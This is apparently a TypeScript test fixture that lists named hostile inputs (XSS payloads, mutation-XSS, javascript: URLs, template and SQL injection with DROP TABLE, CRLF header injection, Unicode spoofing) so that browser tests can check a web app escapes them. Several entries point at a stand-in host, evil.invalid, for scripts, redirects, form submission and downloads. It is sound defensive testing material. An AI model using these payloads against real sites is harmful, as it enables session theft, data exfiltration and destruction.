// Text that wants to be more than text. What runs of it opens a dialog, or sets `pwned`: `visit` (browser.ts) fails on
// both. Each has a name, so that a failure says which one it was.

/** Longer than any field was made for. */
const LONG = 10_000;

export const HOSTILE: Readonly<Record<string, string>> = {
  // Elements that run
  script: "<script>pwned=1;alert(1)</script>",
  "script from elsewhere": "<script src=//evil.invalid/x.js></script>",
  "script in an odd case": "<ScRiPt\n>pwned=1</sCrIpT\t>",
  "image that fails": "<img src=x onerror=pwned=alert(1)>",
  "svg that loads": "<svg/onload=pwned=alert(1)>",
  "svg that animates": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "svg with a script": "<svg><script href=data:,alert(1) /></svg>",
  "svg with HTML inside": "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
  "math with a link": "<math><mtext><a xlink:href=javascript:alert(1)>click",
  "focus by itself": "<input autofocus onfocus=alert(1)>",
  "details that open": "<details open ontoggle=alert(1)>",
  "video that fails": "<video><source onerror=alert(1)>",
  "animation that ends": "<p style=animation:x onanimationstart=alert(1)>",
  "frame with a page": "<iframe srcdoc='&lt;script&gt;parent.pwned=1&lt;/script&gt;'></iframe>",
  "frame of a script": "<iframe src=javascript:parent.pwned=1></iframe>",
  "object of a page": "<object data='data:text/html,<script>alert(1)</script>'></object>",
  "embedded page": "<embed src=//evil.invalid/x.swf>",

  // Elements that change where things lead
  "refresh of the page": "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
  "another base": "<base href=//evil.invalid/>",
  "form that sends elsewhere": "<form action=//evil.invalid/><input name=key><button>go",
  "button of another form": "<button form=x formaction=javascript:alert(1)>go</button>",
  "link that downloads": "<a href=//evil.invalid/x.exe download>click</a>",

  // Ends of what it may stand in
  "end of a title": "</title><style>*{display:none}</style><script>pwned=1</script>",
  "end of a text field": "</textarea><img src=x onerror=alert(1)>",
  "end of a script": "</script><script>pwned=1</script>",
  "end of a style": "</style><svg onload=alert(1)>",
  "end of a list": "</li></ul></main></body></html><img src=x onerror=alert(1)>",
  "end of CDATA": "<![CDATA[<a]]><img src=x onerror=alert(1)>]]>",
  "end of a comment": "--><img src=x onerror=alert(1)><!--",
  "end of JSON": "\"}</script><script>pwned=1</script>{\"a\":\"",
  "double quotes": "\" autofocus onfocus=alert(1) x=\"",
  "single quotes": "' autofocus onfocus=alert(1) x='",
  "no quotes": "x onmouseover=alert(1) y",
  backticks: "` onmouseover=alert(1) `${pwned=1}`",

  // What a parser makes of it the second time
  "mutation by noscript": "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "mutation by math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "mutation by svg style": "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
  "mutation by template": "<template><script>pwned=1</script></template>",
  "entities for signs": "&lt;script&gt;pwned=1&lt;/script&gt; &#x3c;b&#x3e; &amp;amp;",
  "entities without an end": "&ltimg src=x onerror=alert(1)&gt &nbsp &#60b>",

  // Addresses
  "address of a script": "javascript:alert(1)//",
  "address of a script, with a tab": "java\tscript:alert(1)",
  "address of a script, with a line": "java\nscript:alert(1)",
  "address of a script, as entities": "&#106;avascript&colon;alert(1)",
  "address of a script, in an odd case": " JaVaScRiPt:alert(1)",
  "address of data": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "address without a scheme": "//evil.invalid/%2e%2e/",
  "steps upwards": "../../admin?x=1#y",
  "a step upwards": "..",
  "percent that means nothing": "%ff%zz%00%E0%A4%A",

  // Templates and other languages
  "template of Angular": "{{constructor.constructor('pwned=1')()}}",
  "template of Vue": "{{_c.constructor('alert(1)')()}} <div v-html=\"'<img src=x onerror=alert(1)>'\">",
  "template of servers": "${7*7} #{7*7} <%= 7*7 %> {%25 print 1 %25} @(7*7)",
  "element as JSON": "{\"type\":\"script\",\"props\":{\"dangerouslySetInnerHTML\":{\"__html\":\"<img src=x onerror=alert(1)>\"}}}",
  "name of every object": "__proto__",
  "name of its maker": "constructor",
  "style that asks elsewhere": "};*{background:url(//evil.invalid/)}@import'//evil.invalid/x.css';a{",
  "style within an attribute": "x;background:url(javascript:alert(1));width:expression(alert(1))",
  "names that hide others": "<a id=pwned><form name=body><img name=cookie id=page>",
  query: "' OR 1=1; DROP TABLE keys;-- \" NEAR(a b) words:x*",
  header: "x\r\nset-cookie: pwned=1\r\n\r\n<script>pwned=1</script>",
  polyglot: "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//</stYle/</scRipt/--!>\\x3csVg/oNloAd=alert(1)//>",

  // Signs that are not what they seem
  "turned to the left": "\u202Egpj.exe",
  "turned, and never back": "\u202Btxt \u202D\u202E\u202Ecod",
  "isolates without an end": "\u2066\u2067\u2068txt",
  "ends without a beginning": "\u2069\u2069\u202C\u202Ctxt\u202E",
  "two directions": "a שלום (b) مرحبا 1, 2 c",
  "lines of other scripts": "one\u2028two\u2029three\u0085four",
  "no width": "in\u200Bvis\u200Di\u2060ble\uFEFF\u00AD",
  "nothing but blanks": "\u2003\u3000\u00A0",
  "byte of nothing": "nothing\u0000<script>pwned=1</script>",
  controls: "\u0007\u0008\u001B[31mred\u001B[0m\u007F",
  "signs of more width": "＜script＞pwned＝1＜／script＞",
  "bytes too many": "\u00C0\u00BCscript\u00C0\u00BE \u00E0\u0080\u00BCb",
  "letters that look alike": "аdmin аррӏе Ⅰl1 ոοn",
  "marks one over the other": `Z${"\u0351\u036B\u0343\u032A\u0302".repeat(12)}algo`,
  "families of emoji": "👩‍👩‍👧‍👦 🏳️‍🌈 🇺🇳 👍🏿 1️⃣ é e\u0301",
  "beyond the first plane": "𝕏 𠮷 𒀱 \u{10FFFD}",
  "long without a gap": "a".repeat(LONG),
  "long with gaps": "many words ".repeat(LONG / 10),
  "wide signs": "﷽𒐫".repeat(400),
};

/** Each of them once as a field takes it that has one line: no control characters, so many characters at most. */
export const hostileNames = (most: number): readonly string[] => [
  ...new Set(Object.values(HOSTILE).map((text) => Array.from(text.replace(/\p{Cc}/gu, "")).slice(0, most).join(""))),
];
